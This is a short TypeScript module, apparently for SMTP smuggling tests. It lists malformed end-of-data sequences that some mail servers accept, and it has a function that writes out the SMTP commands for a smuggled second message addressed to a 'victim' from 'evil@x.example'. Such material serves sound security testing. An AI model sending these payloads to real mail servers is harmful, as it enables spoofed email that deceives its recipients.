/** RFC 5321 §4.1.1.4. */
export const TRUE_END = "\r\n.\r\n";

/** Sequences that some servers treat as the end of a message: those of SMTP-Smuggling-Tools and of checklist D3. */
export const ENDS = [
  "\n.\n",
  "\n.\r",
  "\r.\n",
  "\r.\r",
  "\n.\r\n",
  "\r.\r\n",
  "\r\n.\n",
  "\r\n.\r",
  "\r\n.\r\r\n",
  "\r\n\0.\r\n",
  TRUE_END,
];

/** A message for another recipient, as the SMTP commands that would send it. */
export const smuggledTo = (victim: string) =>
  `MAIL FROM:<evil@x.example>\r\nRCPT TO:<${victim}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n`;
